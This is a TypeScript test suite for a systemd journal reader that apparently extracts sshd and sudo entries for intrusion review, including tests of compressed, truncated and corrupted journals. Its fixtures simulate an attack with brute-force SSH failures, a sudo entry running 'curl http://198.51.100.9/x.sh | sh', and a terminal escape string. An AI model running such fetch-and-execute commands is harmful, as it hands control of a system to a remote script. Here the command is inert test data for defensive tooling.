import assert from 'node:assert/strict';
import fs from 'node:fs';
import { after, describe, it } from 'node:test';
import { compressBlock } from 'lz4js';
import { RootHost } from '../../host/root-host';
import { FakeRoot } from '../../../test/helpers/fake-root';
import { bootNoise, type JournalFixtureEntry, writeJournal } from '../../../test/helpers/journal';
import { decompressField, OBJECT_COMPRESSED_LZ4, OBJECT_COMPRESSED_XZ, OBJECT_COMPRESSED_ZSTD } from './journal-decompress';
import { readJournals } from './journal';

const roots: FakeRoot[] = [];
after(() => {
  for (const r of roots) r.remove();
});

const DIR = '/var/log/journal/0f1e2d3c4b5a69788796a5b4c3d2e1f0';
const IDENTS = new Set(['sshd', 'sudo']);

function read(root: FakeRoot) {
  const gaps: { path: string; reason: string }[] = [];
  const r = readJournals(new RootHost(root.dir), IDENTS, (path, reason) => gaps.push({ path, reason }));
  return { ...r, gaps };
}

function attack(n: number): JournalFixtureEntry[] {
  return Array.from({ length: n }, (_, i) => ({
    at: new Date(Date.parse('2026-11-19T03:00:00Z') + i * 1000).toISOString(),
    ident: 'sshd',
    pid: 2000 + i,
    message: `Failed password for root from 45.67.89.10 port ${51000 + i} ssh2`,
  }));
}

/** Offsets of the objects of one type (1 DATA, 3 ENTRY), walking the file as written. */
function objectOffsets(buf: Buffer, type: number, flag = 0): number[] {
  const out: number[] = [];
  for (let p = Number(buf.readBigUInt64LE(88)); p + 16 <= buf.length; ) {
    const size = Number(buf.readBigUInt64LE(p + 8));
    if (size === 0) break;
    if (buf[p] === type && (flag === 0 || buf[p + 1] & flag)) out.push(p);
    p += Math.ceil(size / 8) * 8;
  }
  return out;
}

const findDataObject = (buf: Buffer, flag: number) => objectOffsets(buf, 1, flag)[0] ?? -1;

describe('journal reader', () => {
  for (const compact of [true, false]) {
    it(`reads entries of the wanted programs with their time, host and PID (${compact ? 'compact' : 'regular'} format)`, () => {
      const root = new FakeRoot();
      roots.push(root);
      writeJournal(root.p(`${DIR}/system.journal`), [...bootNoise('2026-11-19T00:00:00Z', 20), ...attack(3)], { compact });
      const r = read(root);
      assert.deepEqual(r.gaps, []);
      assert.equal(r.files.length, 1);
      assert.equal(r.files[0].compact, compact);
      assert.equal(r.files[0].entries, 23);
      assert.equal(r.files[0].firstTime, '2026-11-19T00:00:00.000Z');
      const failed = r.lines.filter((l) => l.message.startsWith('Failed'));
      assert.deepEqual(
        failed.map((l) => [new Date(l.ms).toISOString(), l.rest]),
        [0, 1, 2].map((i) => [
          `2026-11-19T03:00:0${i}.000Z`,
          `web1 sshd[${2000 + i}]: Failed password for root from 45.67.89.10 port ${51000 + i} ssh2`,
        ]),
      );
      // Only sshd and sudo were asked for: boot noise from systemd/kernel/CRON is not returned.
      assert.ok(r.lines.every((l) => l.ident === 'sshd'));
    });
  }

  it('decodes large fields journald stored compressed (zstd, this systemd build default)', () => {
    const root = new FakeRoot();
    roots.push(root);
    const long = `COMMAND=/bin/sh -c ${'echo a; '.repeat(300)}curl http://198.51.100.9/x.sh | sh`;
    const file = writeJournal(root.p(`${DIR}/system.journal`), [
      { at: '2026-11-19T03:05:00Z', ident: 'sudo', message: `   root : TTY=pts/0 ; PWD=/root ; USER=root ; ${long}` },
    ]);
    // The fixture really holds a compressed DATA object (otherwise this test proves nothing).
    assert.ok(findDataObject(fs.readFileSync(file), OBJECT_COMPRESSED_ZSTD) > 0);
    const r = read(root);
    assert.deepEqual(r.gaps, []);
    assert.deepEqual(r.files[0].compression, ['zstd']);
    assert.equal(r.lines.length, 1);
    assert.equal(r.lines[0].message, `   root : TTY=pts/0 ; PWD=/root ; USER=root ; ${long}`);
  });

  it('reads the valid prefix of a truncated copy and names the file in a gap', () => {
    const root = new FakeRoot();
    roots.push(root);
    const file = writeJournal(root.p(`${DIR}/system.journal`), attack(200));
    const whole = read(root).lines.length;
    assert.equal(whole, 200);
    // Cut the copy in the middle of the 121st entry object: 120 entries are whole.
    const buf = fs.readFileSync(file);
    fs.writeFileSync(file, buf.subarray(0, objectOffsets(buf, 3)[120] + 40));
    const r = read(root);
    assert.equal(r.lines.length, 120);
    // What was read is a true prefix, in order.
    assert.deepEqual(
      r.lines.map((l) => l.pid),
      attack(r.lines.length).map((e) => String(e.pid)),
    );
    assert.equal(r.gaps.length, 1);
    assert.equal(r.gaps[0].path, `${DIR}/system.journal`);
    assert.match(r.gaps[0].reason, /journal cut off: read \d+ entries/);
  });

  it('reads what is there when the header promises more than the file holds', () => {
    const root = new FakeRoot();
    roots.push(root);
    const file = writeJournal(root.p(`${DIR}/system.journal`), attack(30));
    const buf = fs.readFileSync(file);
    const objects = objectOffsets(buf, 3);
    buf.writeBigUInt64LE(BigInt(2) ** BigInt(40), 136); // tail_object_offset: 1 TiB
    fs.writeFileSync(file, buf.subarray(0, objects[objects.length - 1] + 200));
    const r = read(root);
    assert.equal(r.lines.length, 30);
    assert.equal(r.gaps.length, 1);
    assert.match(r.gaps[0].reason, /journal cut off: read 30 entries/);
  });

  it('stops at overwritten bytes in the middle of a file and reports the rest as a gap', () => {
    const root = new FakeRoot();
    roots.push(root);
    const file = writeJournal(
      root.p(`${DIR}/system@0123456789abcdef0123456789abcdef-0000000000000001-0006441a2b3c4d5e.journal`),
      attack(100),
    );
    const buf = fs.readFileSync(file);
    buf.fill(0x41, objectOffsets(buf, 3)[60], objectOffsets(buf, 3)[60] + 256);
    fs.writeFileSync(file, buf);
    const r = read(root);
    assert.equal(r.lines.length, 60);
    assert.equal(r.gaps.length, 1);
    assert.match(r.gaps[0].reason, /corrupt object at offset \d+/);
  });

  it('reads archived and dirty files, skips user journals, and reports files that are not journals', () => {
    const root = new FakeRoot();
    roots.push(root);
    writeJournal(root.p(`${DIR}/system.journal`), attack(2));
    fs.copyFileSync(
      root.p(`${DIR}/system.journal`),
      root.p(`${DIR}/system@0123456789abcdef0123456789abcdef-0000000000000001-0006441a2b3c4d5e.journal~`),
    );
    writeJournal(root.p(`/run/log/journal/0f1e2d3c4b5a69788796a5b4c3d2e1f0/system.journal`), attack(1));
    writeJournal(root.p(`${DIR}/user-1000.journal`), attack(5));
    root.write(`${DIR}/system@bad.journal`, Buffer.from('\u001b]0;owned\u0007 not a journal at all'.repeat(20)));
    const r = read(root);
    assert.deepEqual(r.files.map((f) => f.path.split('/').pop()).sort(), [
      'system.journal',
      'system.journal',
      'system@0123456789abcdef0123456789abcdef-0000000000000001-0006441a2b3c4d5e.journal~',
    ]);
    assert.equal(r.lines.length, 5);
    assert.deepEqual(
      r.gaps.map((g) => [g.path, g.reason]),
      [[`${DIR}/system@bad.journal`, 'journal not read: not a journal file (bad signature)']],
    );
  });

  it('spends the byte and time budgets on the newest files and names the files left out', () => {
    const root = new FakeRoot();
    roots.push(root);
    const old = writeJournal(root.p(`${DIR}/system@0123456789abcdef0123456789abcdef-0000000000000001-0006441a2b3c4d5e.journal`), attack(5));
    fs.utimesSync(old, new Date('2026-11-10T00:00:00Z'), new Date('2026-11-10T00:00:00Z'));
    writeJournal(root.p(`${DIR}/system.journal`), attack(3));
    const gaps: string[] = [];
    const host = new RootHost(root.dir);
    const oneFile = readJournals(host, IDENTS, (p, r) => gaps.push(`${p}: ${r}`), {
      maxFileBytes: 64 << 20,
      maxTotalBytes: 6 << 20,
      timeMs: 60_000,
    });
    assert.equal(oneFile.lines.length, 3);
    assert.deepEqual(gaps, [`${old.slice(root.dir.length)}: journal not read: 4 MiB is over the 2 MiB budget`]);
    gaps.length = 0;
    const none = readJournals(host, IDENTS, (p, r) => gaps.push(`${p}: ${r}`), {
      maxFileBytes: 64 << 20,
      maxTotalBytes: 64 << 20,
      timeMs: -1,
    });
    assert.equal(none.lines.length, 0);
    assert.equal(gaps.length, 2);
    assert.ok(gaps.every((g) => g.endsWith('skipped: journal time budget spent on newer files')));
  });

  it('reports XZ-compressed fields it cannot decode instead of pretending they are empty', () => {
    const root = new FakeRoot();
    roots.push(root);
    const file = writeJournal(root.p(`${DIR}/system.journal`), [
      { at: '2026-11-19T03:05:00Z', ident: 'sudo', message: `x ${'y'.repeat(3000)}` },
      ...attack(1),
    ]);
    // This systemd writes zstd only; relabel the compressed object as XZ, as a CentOS 7 journal has it.
    const buf = fs.readFileSync(file);
    const at = findDataObject(buf, OBJECT_COMPRESSED_ZSTD);
    assert.ok(at > 0);
    buf[at + 1] = OBJECT_COMPRESSED_XZ;
    fs.writeFileSync(file, buf);
    const r = read(root);
    assert.deepEqual(
      r.lines.map((l) => l.ident),
      ['sshd'],
    );
    assert.deepEqual(
      r.gaps.map((g) => g.reason),
      ['1 XZ-compressed journal field(s) not decoded'],
    );
  });

  it('never throws or hangs on randomly damaged copies', () => {
    const root = new FakeRoot();
    roots.push(root);
    const file = writeJournal(root.p(`${DIR}/system.journal`), [
      ...attack(40),
      { at: '2026-11-19T03:05:00Z', ident: 'sudo', message: `x ${'y'.repeat(3000)}` },
    ]);
    const clean = fs.readFileSync(file);
    const entries = objectOffsets(clean, 3);
    // Deterministic pseudo-random damage aimed at the object area (where entries and data live).
    let seed = 12345;
    const rnd = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const from = objectOffsets(clean, 1)[0];
    const to = entries[entries.length - 1] + 200;
    for (let round = 0; round < 60; round++) {
      const buf = Buffer.from(clean);
      for (let k = 0; k < 1 + rnd(8); k++) buf[from + rnd(to - from)] = rnd(256);
      if (round % 3 === 0) buf.writeUInt32LE(rnd(0xffffffff), 136 + 8 * rnd(4));
      fs.writeFileSync(file, buf);
      const r = read(root);
      assert.ok(r.lines.length <= 41);
      for (const l of r.lines) assert.ok(Number.isFinite(l.ms));
    }
  });

  it('is silent about undecodable fields of entries nobody asked for', () => {
    const root = new FakeRoot();
    roots.push(root);
    const file = writeJournal(root.p(`${DIR}/system.journal`), [
      { at: '2026-11-19T03:05:00Z', ident: 'kernel', message: `trace ${'z'.repeat(3000)}` },
      ...attack(1),
    ]);
    const buf = fs.readFileSync(file);
    buf[findDataObject(buf, OBJECT_COMPRESSED_ZSTD) + 1] = OBJECT_COMPRESSED_XZ;
    fs.writeFileSync(file, buf);
    const r = read(root);
    assert.equal(r.lines.length, 1);
    assert.deepEqual(r.gaps, []);
  });
});

describe('journal field decompression', () => {
  it('decodes LZ4 blocks with systemd size prefix and refuses corrupt ones', () => {
    const text = Buffer.from(`MESSAGE=${'Accepted password for root from 45.67.89.10 port 4 ssh2 '.repeat(40)}`);
    const block = new Uint8Array(text.length + 64);
    const n = compressBlock(text, block, 0, text.length, new Uint32Array(1 << 16));
    assert.ok(n > 0 && n < text.length);
    const src = Buffer.concat([Buffer.alloc(8), Buffer.from(block.subarray(0, n))]);
    src.writeUInt32LE(text.length, 0);
    const d = decompressField(OBJECT_COMPRESSED_LZ4, src, 1 << 20);
    assert.ok('data' in d);
    assert.equal(Buffer.from(d.data).toString(), text.toString());
    // A forged size is capped, not allocated.
    src.writeUInt32LE(0xffffffff, 0);
    src.writeUInt32LE(0xff, 4);
    const capped = decompressField(OBJECT_COMPRESSED_LZ4, src, 4096);
    assert.ok('data' in capped && capped.clipped && capped.data.length === 4096);
    assert.deepEqual(decompressField(OBJECT_COMPRESSED_LZ4, Buffer.from([1, 2, 3]), 4096), { error: 'lz4: too short' });
  });

  it('caps a zstd field whose frame claims a huge size and survives garbage', () => {
    const bogus = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0xe0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f, 0, 0, 0]);
    const d = decompressField(OBJECT_COMPRESSED_ZSTD, bogus, 4096);
    assert.ok('error' in d || d.data.length <= 4096);
    assert.ok('error' in decompressField(OBJECT_COMPRESSED_ZSTD, Buffer.from('not zstd at all'), 4096));
  });
});
